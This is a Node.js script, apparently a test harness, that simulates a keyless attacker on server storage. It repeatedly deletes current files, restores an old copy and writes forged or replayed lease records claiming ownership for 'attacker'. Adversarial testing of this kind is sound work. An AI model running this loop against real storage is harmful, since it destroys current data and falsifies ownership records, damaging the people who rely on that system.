// Someone who can read and write the storage of servers, and has no key, restores old content again and again, with a
// lease record that confirms it: node restore-old-content.mjs STORAGE COPY RECORDS forged|captured, until it is killed.
// The last of the records confirms what is in the copy.
import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join, relative } from 'node:path';

const [storage, copy, recordsFile, kind] = process.argv.slice(2);
const PAUSE = 100;

const filesIn = (folder) =>
  readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => relative(folder, join(entry.parentPath, entry.name)));
const isLease = (file) => file.startsWith('live');

const old = new Map(filesIn(copy).map((file) => [file, readFileSync(join(copy, file))]));
const [leaseFile] = [...old.keys()].filter(isLease);
const records = JSON.parse(readFileSync(recordsFile, 'utf8'));
let turn = 0;

function write(file, content) {
  mkdirSync(dirname(join(storage, file)), { recursive: true });
  writeFileSync(join(storage, file), content);
}

function attack() {
  for (const file of filesIn(storage))
    if (!isLease(file) && !old.has(file)) rmSync(join(storage, file), { force: true });
  for (const [file, content] of old) if (!isLease(file)) write(file, content);
  turn += 1;
  const now = Date.now();
  const forged = { ...records.at(-1), owner: 'attacker', count: 1_000_000 + turn, at: now, checkedAt: now };
  write(leaseFile, JSON.stringify(kind === 'forged' ? forged : records[turn % records.length]));
}

attack();
console.log('attacking');
setInterval(attack, PAUSE);
